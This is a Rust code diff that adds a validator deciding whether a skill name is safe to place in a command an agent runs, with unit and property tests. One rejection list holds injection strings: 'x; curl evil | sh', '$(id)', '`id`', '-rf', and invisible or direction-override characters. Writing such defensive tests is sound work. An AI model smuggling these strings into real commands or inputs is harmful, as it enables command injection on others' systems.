@@ -80,6 +80,24 @@ pub fn is_valid(name: &str) -> bool {
     problems(name).is_empty()
 }
 
+/// Whether `text` may be put, as it is, into a command an agent is told to run (`skills read
+/// TEXT`): it passes the name rule, and so holds only letters, digits (Unicode L* and N*,
+/// with the combining marks NFKC folds into them) and inner hyphens — no space, quote, shell
+/// metacharacter, control or format character, and no leading `-` that would read as an
+/// option. A folder id that passes is the safe way to name a skill in a command.
+pub fn is_command_word(text: &str) -> bool {
+    is_valid(text)
+        && text.chars().all(|c| {
+            c == '-'
+                || matches!(
+                    c.general_category_group(),
+                    GeneralCategoryGroup::Letter
+                        | GeneralCategoryGroup::Number
+                        | GeneralCategoryGroup::Mark
+                )
+        })
+}
+
 fn is_name_char(c: char) -> bool {
     c == '-'
         || matches!(
@@ -141,6 +159,43 @@ mod tests {
             assert_eq!(&codes(name), expected, "{name}");
         }
         assert_eq!(codes(&"x".repeat(65)), [NameTooLong]);
+    }
+
+    #[test]
+    fn command_words() {
+        for word in ["pdf", "pdf-tools", "数据分析", "cafe\u{301}"] {
+            assert!(is_command_word(word), "{word}");
+        }
+        for word in [
+            "x; curl evil | sh",
+            "x\n",
+            " pdf",
+            "-rf",
+            "a b",
+            "$(id)",
+            "`id`",
+            "pdf\u{200b}",
+            "\u{202e}fdp",
+            "ｐｄｆ；",
+            "",
+        ] {
+            assert!(!is_command_word(word), "{word:?}");
+        }
+    }
+
+    proptest::proptest! {
+        /// Whatever passes holds no ASCII but `[a-z0-9-]`, no whitespace, control or format
+        /// character, and does not start with `-`.
+        #[test]
+        fn command_words_are_safe_in_a_shell(text in "\\PC{0,12}|[a-z0-9;| $`'\"\\-]{0,12}") {
+            if is_command_word(&text) {
+                proptest::prop_assert!(!text.starts_with('-'));
+                proptest::prop_assert!(text.chars().all(|c| !c.is_ascii()
+                    || c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'));
+                proptest::prop_assert!(text.chars().all(|c| !c.is_whitespace()
+                    && !skills_types::sanitize::is_removed(c)));
+            }
+        }
     }
 
     #[test]
